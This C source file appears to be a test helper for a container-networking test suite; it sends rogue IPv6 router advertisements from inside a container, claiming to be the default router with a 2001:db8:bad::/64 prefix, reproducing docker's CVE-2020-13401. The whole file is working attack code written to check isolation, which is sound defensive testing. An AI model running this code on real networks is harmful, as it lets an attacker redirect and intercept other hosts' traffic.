/*
 * tests/10-full-net-ra.c - an attack of tests/10-full-net.bats: from
 * inside a container (root, CAP_NET_RAW), IPv6 router advertisements to
 * all nodes on eth0, "I am your default router, and 2001:db8:bad::/64 is
 * your prefix" (docker's CVE-2020-13401). Usage: ra [N] (N of them, 0.2 s
 * apart). Exits 0 once sent, 1 if it could not send.
 */
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	int s = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), hops = 255, n = argc > 1 ? atoi(argv[1]) : 3;
	unsigned char p[16 + 32] = {0};
	struct nd_router_advert *ra = (void *)p;
	struct nd_opt_prefix_info *pi = (void *)(p + sizeof(*ra));
	struct sockaddr_in6 to = {.sin6_family = AF_INET6};
	unsigned idx = if_nametoindex("eth0");

	if (s < 0) { perror("socket(ICMPV6 raw)"); return 1; }
	setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
	setsockopt(s, IPPROTO_IPV6, IPV6_MULTICAST_IF, &idx, sizeof(idx));
	ra->nd_ra_type = ND_ROUTER_ADVERT;
	ra->nd_ra_curhoplimit = 64;
	ra->nd_ra_router_lifetime = htons(1800);
	pi->nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	pi->nd_opt_pi_len = 4;
	pi->nd_opt_pi_prefix_len = 64;
	pi->nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	pi->nd_opt_pi_valid_time = htonl(86400);
	pi->nd_opt_pi_preferred_time = htonl(14400);
	inet_pton(AF_INET6, "2001:db8:bad::", &pi->nd_opt_pi_prefix);
	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	to.sin6_scope_id = idx;
	for (int i = 0; i < n; i++) {
		if (sendto(s, p, sizeof(*ra) + sizeof(*pi), 0, (void *)&to, sizeof(to)) < 0) { perror("sendto"); return 1; }
		usleep(200000);
	}
	puts("sent router advertisements");
	return 0;
}
